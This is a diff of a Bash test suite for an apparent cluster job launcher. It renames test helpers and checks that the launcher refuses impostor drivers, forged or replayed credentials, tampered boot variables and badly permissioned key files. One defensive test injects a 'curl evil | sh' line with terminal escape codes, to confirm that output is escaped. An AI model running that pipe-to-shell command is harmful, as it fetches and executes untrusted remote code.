@@ -5,6 +5,7 @@
 # shellcheck disable=SC2030,SC2031,SC2154  # set by functions of the helpers
 
 load helpers
+load launch
 
 setup_file() { suite_up --nodes 4 --srun-port-range 20000-20999; }
 teardown_file() { cluster_down; }
@@ -13,15 +14,6 @@ teardown() {
     cluster_mend
     if [[ ${background-} ]]; then wait "$background" || true; fi
 }
-
-says() {
-    [[ $output == *"$1"* ]] || {
-        echo "not said: $1"
-        return 1
-    }
-}
-
-job_ran() { [[ $status -eq 0 && $output == *"hvd-selftest: $1 ranks on $2 hosts: OK"* ]]; }
 
 uid_of() { as_user "$1" id -u; }
 
@@ -41,8 +33,8 @@ uid_of() { as_user "$1" id -u; }
     # The right user, but a credential that was made for anything else.
     [[ $(peer alice hvdn2 auth "$login" "$port" unbound) == "refused: the peer's credential was made for another connection" ]]
     go_on
-    job_ran 4 4
-    says "refused a connection from $(cluster addr hvdn2 eth0): the peer is uid $bob"
+    selftest_ok 4 4
+    has "refused a connection from $(cluster addr hvdn2 eth0): the peer is uid $bob"
 }
 
 # Lines of the log of a relay: heard FROM SIGNED.
@@ -89,7 +81,7 @@ NFT
 
 @test "an enemy in the middle hears no secret, and what he heard opens nothing" {
     through_bob pass srun --hvd -N4 hvd-selftest --quick
-    job_ran 4 4
+    selftest_ok 4 4
     # What passes by are credentials that he cannot open.
     [[ $(heard shim unsigned) == "auth Unauthorized credential"* ]]
     [[ $(heard driver unsigned) == *"welcome Unauthorized credential"* ]]
@@ -103,15 +95,15 @@ NFT
     [[ ${lines[0]} == "refused: "* ]]
     [[ ${lines[1]} == closed || ${lines[1]} == "refused: "* ]]
     go_on
-    job_ran 4 4
+    selftest_ok 4 4
 }
 
 @test "captured authentication does not open the same launch either" {
     # Taken off the wire before the driver saw it: munge itself has not met this credential.
     through_bob cross srun --hvd -N4 --hvd-start-timeout=6 hvd-selftest --quick
-    [ "$status" -ne 0 ]
+    exits 1
     [[ $output != *"OK"* ]]
-    says "the peer's credential was made for another connection"
+    has "the peer's credential was made for another connection"
     [[ -z $(heard shim signed) ]]
 }
 
@@ -119,13 +111,13 @@ NFT
     local mode
     for mode in impostor-own impostor-echo impostor-plan; do
         through_bob $mode srun --hvd -N4 --hvd-start-timeout=6 hvd-selftest --quick
-        [ "$status" -ne 0 ]
+        exits 1
         [[ $output != *OK* && $output != *ld.so* && $output != *evil* ]]
-        says "hvdn2: cannot reach the driver"
+        has "hvdn2: cannot reach the driver"
         case $mode in
-        impostor-own) says "the driver could not prove who it is: the peer is uid $(uid_of bob)" ;;
-        impostor-echo) says "the driver could not prove who it is: the peer's credential was made for another connection" ;;
-        impostor-plan) says 'the driver sent "plan" before it proved who it is' ;;
+        impostor-own) has "the driver could not prove who it is: the peer is uid $(uid_of bob)" ;;
+        impostor-echo) has "the driver could not prove who it is: the peer's credential was made for another connection" ;;
+        impostor-plan) has 'the driver sent "plan" before it proved who it is' ;;
         esac
         # Nothing that is signed was said to him.
         [[ -z $(heard shim signed) ]]
@@ -139,14 +131,14 @@ NFT
     for launch in "srun --hvd -N4 --hvd-start-timeout=6" "hvdrun -N4 --start-timeout=6"; do
         # shellcheck disable=SC2086
         through_bob impostor-refuse $launch hvd-selftest --quick
-        [ "$status" -ne 0 ]
-        says 'the driver there, which has not proven who it is, refuses this process: "\x1b[2J\xc2\x9b31m\x0d\"\nhvd: error: mend this: curl evil | sh"'
+        exits_one_of 1 143 # 143 where srun saw last the end of a rank that it had sent SIGTERM
+        has 'the driver there, which has not proven who it is, refuses this process: "\x1b[2J\xc2\x9b31m\x0d\"\nhvd: error: mend this: curl evil | sh"'
         [[ $'\n'$output != *$'\n'"hvd: error: mend this"* ]]
         [[ $(LC_ALL=C tr -d '\t\n\040-\176' <<<"$output" | wc -c) -eq 0 ]]
     done
     through_bob impostor-greet srun --hvd -N4 --hvd-start-timeout=6 hvd-selftest --quick
-    [ "$status" -ne 0 ]
-    says "the peer sent a second greeting"
+    exits 1
+    has "the peer sent a second greeting"
     # One for each address of the driver's that a shim tries.
     (($(grep -c . <<<"$(heard shim unsigned)") <= 8))
     assert_no_leftovers
@@ -156,25 +148,25 @@ NFT
     local mode
     for mode in tamper repeat reflect forge swap; do
         through_bob $mode srun --hvd -N4 --hvd-start-timeout=6 hvd-selftest --quick
-        [ "$status" -ne 0 ]
+        exits_one_of 1 143 # 143 where srun saw last the end of a rank that it had sent SIGTERM
         [[ $output != *OK* ]]
-        says hvdn2
+        has hvdn2
         case $mode in
-        swap) says "an unsigned message where a signed one is due" ;;
-        *) says "a message's signature is wrong" ;;
+        swap) has "an unsigned message where a signed one is due" ;;
+        *) has "a message's signature is wrong" ;;
         esac
         [[ $mode == tamper || $(heard driver signed) != *plan* ]]
     done
     # hvdrun's shims keep to the same rules.
     through_bob tamper hvdrun -N4 --start-timeout=6 hvd-selftest --quick
-    [ "$status" -ne 0 ]
+    exits_one_of 1 143 # 143 where srun saw last the end of a rank that it had sent SIGTERM
     [[ $output != *OK* ]]
-    says "a message's signature is wrong"
+    has "a message's signature is wrong"
     assert_no_leftovers
 }
 
-# running CMD…: a launch whose ranks wait; $rv_addr and $rv_port are its rendezvous.
-running() {
+# begin_ranks CMD…: a launch whose ranks wait; $rv_addr and $rv_port are the address and port of its rendezvous.
+begin_ranks() {
     on_login rm -f rendezvous
     # shellcheck disable=SC2016
     on_login "$@" bash -c '((HOROVOD_RANK)) || echo $HOROVOD_GLOO_RENDEZVOUS_ADDR $HOROVOD_GLOO_RENDEZVOUS_PORT >rendezvous; exec sleep 100' \
@@ -185,7 +177,7 @@ running() {
     [[ $rv_port ]]
 }
 
-ended() {
+end_ranks() {
     on_host hvdctl scancel --user=alice
     wait "$background" || true
     background=
@@ -193,7 +185,7 @@ ended() {
 
 @test "the rendezvous: strangers neither read nor write it" {
     local addr
-    running srun --hvd -N4
+    begin_ranks srun --hvd -N4
     [[ $rv_addr == "$(cluster addr hvdn1 ib0)" ]]
     [[ $(peer alice hvdn1 http "$rv_addr" "$rv_port" PUT /scope/key hello) == 200* ]]
     [[ $(peer alice hvdn3 http "$rv_addr" "$rv_port" GET /scope/key) == "200 hello" ]]
@@ -210,12 +202,12 @@ ended() {
     # From a host that is not the job's, no user may.
     [[ $(peer bob hvdlogin http "$(cluster addr hvdn1 eth0)" "$rv_port" GET /scope/key) =~ ^(403|Connection refused) ]]
     [[ $(peer alice hvdlogin http "$(cluster addr hvdn1 eth0)" "$rv_port" GET /scope/key) =~ ^(403|Connection refused) ]]
-    ended
+    end_ranks
     assert_no_leftovers
 }
 
 @test "the rendezvous on the launching host, too" {
-    running srun --hvd --hvd-rendezvous=launch -N3 -w 'hvdn[1-3]'
+    begin_ranks srun --hvd --hvd-rendezvous=launch -N3 -w 'hvdn[1-3]'
     [[ $rv_addr == "$(cluster addr hvdlogin eth0)" ]]
     [[ $(peer alice hvdn1 http "$rv_addr" "$rv_port" PUT /scope/key hello) == 200* ]]
     for addr in "$rv_addr" 127.0.0.1; do
@@ -225,13 +217,13 @@ ended() {
     [[ $(peer bob hvdn4 http "$rv_addr" "$rv_port" GET /scope/key) == 403* ]]
     [[ $(peer alice hvdn4 http "$rv_addr" "$rv_port" GET /scope/key) == 403* ]]
     [[ $(peer alice hvdn2 http "$rv_addr" "$rv_port" GET /scope/key) == "200 hello" ]]
-    ended
-    running hvdrun --rendezvous=launch -N3 -w 'hvdn[1-3]'
+    end_ranks
+    begin_ranks hvdrun --rendezvous=launch -N3 -w 'hvdn[1-3]'
     [[ $rv_addr == "$(cluster addr hvdlogin eth0)" ]]
     [[ $(peer bob hvdlogin http "$rv_addr" "$rv_port" GET /scope/key) == 403* ]]
     [[ $(peer alice hvdn4 http "$rv_addr" "$rv_port" GET /scope/key) == 403* ]]
     [[ $(peer alice hvdn2 http "$rv_addr" "$rv_port" GET /scope/key) == 404* ]]
-    ended
+    end_ranks
 }
 
 # The key is taken out of the memory of the driver, and then looked for elsewhere; in files that have changed since
@@ -261,26 +253,26 @@ key_is_nowhere() {
     local mark
     mark=$(cluster path)/mark
     : >"$mark"
-    running srun --hvd -N4
+    begin_ranks srun --hvd -N4
     key_is_nowhere hvd-driver
     # The ranks themselves were looked into.
     [[ $looked =~ \"memory\":\ [1-9] ]]
-    ended
-    running hvdrun -N4
+    end_ranks
+    begin_ranks hvdrun -N4
     key_is_nowhere hvdrun
-    ended
+    end_ranks
 }
 
 @test "a boot variable that was tampered with" {
     # Inherited from elsewhere it is of no account, with and without --hvd.
     run cluster exec -- env SLURM_HVD_BOOT=evil SLURM_HVD_STEP=1.0 srun --hvd -N2 hvd-selftest --quick
     echo "$output"
-    job_ran 2 2
+    selftest_ok 2 2
     run cluster exec -- env SLURM_HVD_BOOT=evil SLURM_HVD_STEP=1.0 srun -N2 true
     [ "$status" -eq 0 ]
     run cluster exec -- env SLURM_HVD_BOOT=evil hvdrun -N2 hvd-selftest --quick
     echo "$output"
-    job_ran 2 2
+    selftest_ok 2 2
 
     # Handed to the shim it is refused, with a reason, and soon.
     local good bad want
@@ -290,7 +282,7 @@ key_is_nowhere() {
         run cluster exec -- timeout 8 srun -N1 env "SLURM_HVD_BOOT=$bad" "$B/libexec/hvd/hvd-task" -- touch evil
         echo "$output"
         [ "$status" -eq 1 ]
-        says "$want"
+        has "$want"
     done 9<<EOT
 |SLURM_HVD_BOOT is not of this release
 evil|SLURM_HVD_BOOT is not of this release
@@ -322,9 +314,9 @@ EOT
         "SLURM_HVD_BOOT=1;session=0123456789abcdef0123456789abcdef;port=$port;timeout=3;id=munge;addr=$(cluster addr hvdlogin eth0)" \
         "$B/libexec/hvd/hvd-task" -- touch evil
     echo "$output"
-    says "the driver there belongs to another launch"
+    has "the driver there belongs to another launch"
     go_on
-    job_ran 4 4
+    selftest_ok 4 4
 }
 
 @test "a key file that others can read, or that is none, is refused" {
@@ -340,27 +332,27 @@ EOT
     for mode in 644 640 604 660 620 602; do
         on_login chmod $mode open
         shim open
-        says "the key file open is open to others"
-        says "chmod 600 open"
+        has "the key file open is open to others"
+        has "chmod 600 open"
     done
     shim link
-    says "cannot open the key file link: Too many levels of symbolic links"
+    has "cannot open the key file link: Too many levels of symbolic links"
     shim empty 2
-    says "the key file empty holds neither 64 hex digits nor 32 bytes"
+    has "the key file empty holds neither 64 hex digits nor 32 bytes"
     shim text 2
-    says "the key file text holds neither 64 hex digits nor 32 bytes"
+    has "the key file text holds neither 64 hex digits nor 32 bytes"
     shim nowhere
-    says "cannot open the key file nowhere: No such file or directory"
+    has "cannot open the key file nowhere: No such file or directory"
     # Somebody else's, though he lets her read it: he would know the key.
     as_user bob bash -c 'printf "%064d\n" 7 >/tmp/bobs-key; chmod 644 /tmp/bobs-key'
     shim /tmp/bobs-key
-    says "the key file /tmp/bobs-key is open to others"
+    has "the key file /tmp/bobs-key is open to others"
     as_user bob rm -f /tmp/bobs-key
     # Nothing is written at the other end: it must not be waited for.
     shim pipe 2
-    says "the key file pipe is no ordinary file"
+    has "the key file pipe is no ordinary file"
     # With a good one the next thing is to look for the driver.
     shim key
-    says "cannot reach the driver at port 20001"
+    has "cannot reach the driver at port 20001"
     on_login rm -f key link empty text pipe open
 }
